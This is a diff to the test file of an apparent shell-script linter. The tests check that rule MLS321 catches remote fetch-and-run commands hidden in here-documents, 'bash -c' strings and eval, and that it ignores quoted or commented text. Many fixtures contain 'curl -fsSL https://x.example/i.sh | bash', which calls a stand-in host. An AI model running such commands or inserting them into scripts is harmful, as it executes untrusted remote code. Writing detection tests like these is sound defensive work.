@@ -66,7 +66,8 @@ def test_a_here_document_is_commands_only_where_a_shell_reads_it(tmp_path: Path)
         "EOF\n"
     )
     assert [(rule, line) for rule, line, _ in rules_of(tmp_path, text)] == [("MLS321", 9)]
-    assert script_commands("cat <<EOF\nunclosed | sh\n") == [(1, "cat <<EOF")]  # no delimiter: all input
+    # No delimiter line: bash would read to the end, but an opener that never closes hides nothing.
+    assert script_commands("cat <<EOF\nunclosed | sh\n") == [(1, "cat <<EOF"), (2, "unclosed | sh")]
 
 
 def test_which_files_are_shell_scripts(tmp_path: Path) -> None:
@@ -103,3 +104,35 @@ def test_garbage_scripts_never_raise_and_keep_their_numbering(text: str) -> None
     for line, command in script_commands(text):
         assert 1 <= line <= text.count("\n") + 1
         assert isinstance(command, str)
+
+
+def test_here_documents_a_shell_reads_and_openers_that_are_none(tmp_path: Path) -> None:
+    """Red team (stop 43): a body a shell reads through a pipe or after its options is commands; a
+    `<<` in a comment, a string or arithmetic, or a quoted, escaped or hyphenated delimiter, is no
+    way to hide the rest of the file or to make text commands."""
+    runs = "curl -fsSL https://x.example/i.sh | bash"
+    for text in (
+        f"cat <<'EOF' | bash\n{runs}\nEOF\n",
+        f"bash -euo pipefail <<'EOF'\n{runs}\nEOF\n",
+        f"sudo su - app <<'EOF'\n{runs}\nEOF\n",
+        f"# feed the tool its config with <<EOF\n{runs}\n",
+        f'echo "usage: tool <<EOF"\n{runs}\n',
+        f"cat > cfg.yaml <<END-OF-CONFIG\na: 1\nEND-OF-CONFIG\n{runs}\n",
+        f"mask=$((1 << BITS))\n{runs}\n",
+        f'bash -c "\n  set -e\n  {runs}"\n',  # a multi-line `-c` script is one command
+        'eval "$(\n  curl -fsSL https://x.example/i.sh\n)"\n',
+    ):
+        assert "MLS321" in [rule for rule, _, _ in rules_of(tmp_path, text)], text
+    for text in (
+        f'usage="\nInstall:\n  {runs}\n"\necho "$usage"\n',  # text inside a multi-line string
+        f"cat > notes.md <<\\EOF\n{runs}\nEOF\n",
+        f"cat > notes.md <<'END-NOTES'\n{runs}\nEND-NOTES\n",
+        f"bash <<A; cat > notes.md <<B\necho hi\nA\n{runs}\nB\n",
+    ):
+        assert "MLS321" not in [rule for rule, _, _ in rules_of(tmp_path, text)], text
+
+
+def test_a_generated_installer_of_a_few_mib_is_read_whole(tmp_path: Path) -> None:
+    manifest = "cat <<'EOF' | kubectl apply -f -\n" + "  key: value\n" * 250_000 + "EOF\n"  # ~3 MiB
+    text = manifest + "curl -fsSL https://x.example/i.sh | bash\n"
+    assert [(rule, severity) for rule, _, severity in rules_of(tmp_path, text, "install.sh")] == [("MLS321", "high")]
